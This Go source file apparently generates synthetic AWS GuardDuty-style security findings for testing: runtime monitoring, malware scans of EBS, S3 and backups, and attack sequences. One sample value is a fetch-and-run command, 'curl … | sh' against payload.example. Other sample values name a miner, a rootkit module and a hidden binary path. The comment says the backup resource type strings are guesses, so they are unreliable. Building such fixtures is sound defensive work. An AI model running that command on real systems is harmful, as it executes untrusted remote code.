package generator

import (
	"fmt"
	"strings"
)

// runtime: Runtime Monitoring findings, on an instance. Network families
// carry a NETWORK_CONNECTION or DNS_REQUEST action; the others an empty
// action and the process that did it.
func (b *builder) runtime() {
	h := b.host()
	name := b.t.Name
	switch {
	case isDNSType(name):
		b.dns(h)
	case strings.Contains(name, "C&CActivity.B") || strings.Contains(name, "BitcoinTool.B") || strings.Contains(name, "Tor") ||
		strings.Contains(name, "BlackholeTraffic") || strings.Contains(name, "DropPoint"):
		b.outbound(h)
	default:
		b.f.Service.Action = action{}
		b.f.Title, b.f.Description = genericText(b.t, "instance "+h.id)
	}
	b.f.Service.FeatureName = "RuntimeMonitoring"
	b.f.Service.ResourceRole = ""
	rd := &runtimeDetails{}
	p := &rd.Process
	exe := pick(b.r, []string{"/usr/bin/curl", "/tmp/.x/kworkerd", "/usr/bin/python3", "/bin/bash", "/usr/local/bin/xmrig"})
	p.Name = exe[strings.LastIndexByte(exe, '/')+1:]
	p.ExecutablePath, p.ExecutableSha256 = exe, hexString(b.r, 64)
	p.Pid, p.NamespacePid = 1000+b.r.IntN(30000), 1+b.r.IntN(500)
	p.Pwd, p.UUID, p.ParentUUID = "/tmp", uuid(b.r), uuid(b.r)
	p.StartTime = epoch(float64(b.created.Unix()-int64(b.r.IntN(3600))) + float64(b.r.IntN(1e6))/1e6)
	p.User, p.UserID, p.Euid = "root", 0, 0
	if b.r.IntN(2) == 0 {
		p.User, p.UserID, p.Euid = "ec2-user", 1000, 1000
	}
	switch {
	case strings.Contains(name, "DockerSocket"):
		rd.Context = object{{"socketPath", "/var/run/docker.sock"}}
	case strings.Contains(name, "KernelModule"):
		rd.Context = object{{"moduleName", "rootkit_" + hexString(b.r, 4)}, {"moduleFilePath", "/tmp/mod.ko"}}
	case strings.Contains(name, "SuspiciousCommand"):
		rd.Context = object{{"commandLineExample", "curl -s http://payload.example/x.sh | sh"}}
	case strings.Contains(name, "CryptoMiner"):
		rd.Context = object{{"toolName", "XMRig"}, {"toolCategory", "Cryptominer"}}
	}
	b.f.Service.RuntimeDetails = rd
}

// malwareEC2: Malware Protection for EC2 (EBS scan) findings.
func (b *builder) malwareEC2() {
	h := b.host()
	vol := ebsVolume{VolumeARN: fmt.Sprintf("arn:aws:ec2:%s:%s:volume/vol-0%s", h.region, h.account, hexString(b.r, 16)),
		VolumeType: "gp3", DeviceName: "/dev/xvda", VolumeSizeInGB: 8 << b.r.IntN(4), EncryptionType: "UNENCRYPTED",
		SnapshotARN: fmt.Sprintf("arn:aws:ec2:%s:%s:snapshot/snap-0%s", h.region, h.account, hexString(b.r, 16))}
	b.f.Resource.EBSVolumeDetails = &ebsVolumes{ScannedVolumeDetails: []ebsVolume{vol}, SkippedVolumeDetails: []ebsVolume{}}
	switch {
	case strings.Contains(b.t.Name, ":Container/"):
		b.f.Resource.ResourceType = "Container"
		b.f.Resource.ContainerDetails = &container{"docker", hexString(b.r, 64), "web", "nginx:1.25"}
	case strings.Contains(b.t.Name, ":ECS/"):
		b.f.Resource.ResourceType = "ECSCluster"
		b.f.Resource.ECSClusterDetails = &ecsCluster{Name: "ecs-prod", ARN: fmt.Sprintf("arn:aws:ecs:%s:%s:cluster/ecs-prod", h.region, h.account), Status: "ACTIVE"}
	}
	start := float64(b.created.Unix()-int64(600+b.r.IntN(600))) + float64(b.r.IntN(1000))/1000
	threat := pick(b.r, []string{"EICAR-Test-File", "Linux.Trojan.Mirai", "Win32.Backdoor.Agent", "Linux.Miner.XMRig"})
	b.f.Service.Action = action{}
	b.f.Service.FeatureName = "EbsVolumeScan"
	b.f.Service.EBSVolumeScanDetails = &ebsScan{ScanID: hexString(b.r, 32), ScanStartedAt: epoch(start), ScanCompletedAt: epoch(start + 412.5),
		TriggerFindingID: hexString(b.r, 32), Sources: []string{"Bitdefender", "Amazon"}, ScanType: "GUARDDUTY_INITIATED",
		ScanDetections: object{{"scannedItemCount", object{{"totalGb", 3}, {"files", 51234}, {"volumes", 1}}},
			{"threatsDetectedItemCount", object{{"files", 1}}},
			{"highestSeverityThreatDetails", object{{"severity", "HIGH"}, {"threatName", threat}, {"count", 1}}}}}
	b.f.Title = fmt.Sprintf("Malicious file %s detected on EC2 instance %s.", threat, h.id)
	b.f.Description = fmt.Sprintf("A scan of the EBS volumes attached to %s found %s.", h.id, threat)
}

// malwareScan fills malwareScanDetails with one threat at path.
func (b *builder) malwareScan(scanType, path string) (threat string) {
	threat = pick(b.r, []string{"EICAR-Test-File", "Trojan.GenericKD", "PHP.Webshell.Agent"})
	ms := &malwareScan{ScanID: hexString(b.r, 32), ScanType: scanType, UniqueThreatCount: 1}
	ms.Threats = append(ms.Threats, struct {
		Name      string   `json:"name"`
		Source    string   `json:"source"`
		Count     int      `json:"count"`
		Hash      string   `json:"hash"`
		ItemPaths []object `json:"itemPaths"`
	}{threat, "Bitdefender", 1, hexString(b.r, 64), []object{{{"nestedItemPath", path}, {"hash", hexString(b.r, 64)}}}})
	b.f.Service.MalwareScanDetails = ms
	b.f.Service.Action = action{}
	return threat
}

// malwareS3: Malware Protection for S3 (a scanned object).
func (b *builder) malwareS3() {
	bk := pick(b.r, b.w.buckets)
	b.sc = bk.scope
	key := fmt.Sprintf("uploads/%s/invoice-%d.pdf", b.created.Format("2006/01/02"), 1000+b.r.IntN(9000))
	bucket := s3Bucket{ARN: "arn:aws:s3:::" + bk.name, Name: bk.name, Type: "Destination", CreatedAt: epoch(bk.created),
		Tags: []tag{}, S3ObjectDetails: []s3Object{{ObjectARN: "arn:aws:s3:::" + bk.name + "/" + key, Key: key,
			ETag: hexString(b.r, 32), Hash: hexString(b.r, 64), VersionID: upperAlnum(b.r, 32)}}}
	bucket.Owner.ID = hexString(b.r, 64)
	b.f.Resource = resource{ResourceType: "S3Object", S3BucketDetails: []s3Bucket{bucket}}
	threat := b.malwareScan("GUARDDUTY_INITIATED", key)
	b.f.Service.FeatureName = "S3MalwareProtection"
	b.f.Service.ResourceRole = ""
	b.f.Title = fmt.Sprintf("Malicious file %s found in S3 object %s.", threat, key)
	b.f.Description = fmt.Sprintf("Malware Protection for S3 found %s in s3://%s/%s.", threat, bk.name, key)
}

// malwareBackup: Malware Protection for Backup. The resourceType strings
// of these findings are not public; the ones used here are guesses.
func (b *builder) malwareBackup() {
	h := pick(b.r, b.w.instances)
	b.sc = h.scope
	arn := func(kind string) string {
		return fmt.Sprintf("arn:aws:ec2:%s:%s:%s/%s-0%s", h.region, h.account, kind, kind[:4], hexString(b.r, 16))
	}
	switch {
	case strings.HasSuffix(b.t.Name, "!AMI"):
		b.f.Resource = resource{ResourceType: "EC2Image", EC2ImageDetails: &imageDetails{ImageARN: fmt.Sprintf("arn:aws:ec2:%s::image/ami-0%s", h.region, hexString(b.r, 16))}}
	case strings.HasSuffix(b.t.Name, "!Snapshot"):
		b.f.Resource = resource{ResourceType: "EBSSnapshot", EBSSnapshotDetails: &snapshotDetails{SnapshotARN: arn("snapshot"), VolumeARN: arn("volume")}}
	default:
		b.f.Resource = resource{ResourceType: "RecoveryPoint", RecoveryPointDetails: &recoveryPoint{
			RecoveryPointARN: fmt.Sprintf("arn:aws:backup:%s:%s:recovery-point:%s", h.region, h.account, uuid(b.r)), BackupVaultName: "Default"}}
	}
	threat := b.malwareScan("BACKUP_INITIATED", "/var/www/html/upload.php")
	b.f.Service.FeatureName = "MalwareProtectionPlan"
	b.f.Service.ResourceRole = ""
	b.f.Title = fmt.Sprintf("Malicious file %s found in a backup.", threat)
	b.f.Description = fmt.Sprintf("Malware Protection for Backup found %s while scanning %s.", threat, b.f.Resource.ResourceType)
}

// attackSequence: Extended Threat Detection findings (Critical).
func (b *builder) attackSequence() {
	u := pick(b.r, b.w.users)
	b.sc = u.scope
	a := pick(b.r, b.w.attackers)
	b.f.Resource = resource{ResourceType: "AttackSequence"}
	b.f.Service.Action = action{}
	b.f.Service.FeatureName = "Correlation"
	b.f.Service.ResourceRole = ""
	uid := hexString(b.r, 32)
	b.f.Service.Detection = &detection{Sequence: object{
		{"uid", uid},
		{"description", "A sequence of actions involving " + u.name + " that indicates a potential compromise:\n- discovery from an unusual network\n- credential access\n- defense evasion"},
		{"actors", []object{{{"id", u.principal}, {"user", object{{"name", u.name}, {"uid", u.principal}, {"type", u.userType}}}}}},
		{"endpoints", []object{{{"id", a.ip}, {"ip", a.ip}, {"location", object{{"city", a.city}, {"country", a.country}, {"lat", a.lat}, {"lon", a.lon}}},
			{"autonomousSystem", object{{"name", a.org}, {"number", atoiOr(a.asn)}}}}}},
		{"signals", []object{{{"uid", hexString(b.r, 32)}, {"type", "FINDING"}, {"name", "Discovery:IAMUser/AnomalousBehavior"}, {"count", 1 + b.r.IntN(9)}},
			{{"uid", hexString(b.r, 32)}, {"type", "CLOUD_TRAIL"}, {"name", "StopLogging"}, {"count", 1}}}},
		{"sequenceIndicators", []object{{{"key", "ATTACK_TACTIC"}, {"values", []string{"Discovery", "Credential Access", "Defense Evasion"}}}}},
	}}
	b.setSeverity(9 + float64(b.r.IntN(10))/10)
	b.f.Title = "Potential data compromise of one or more resources indicated by a sequence of actions."
	b.f.Description = fmt.Sprintf("A sequence of actions involving %s %s indicates a potential compromise of credentials and data.", u.userType, u.name)
}

func atoiOr(s string) int {
	n := 0
	for _, c := range s {
		if c < '0' || c > '9' {
			return 0
		}
		n = n*10 + int(c-'0')
	}
	return n
}
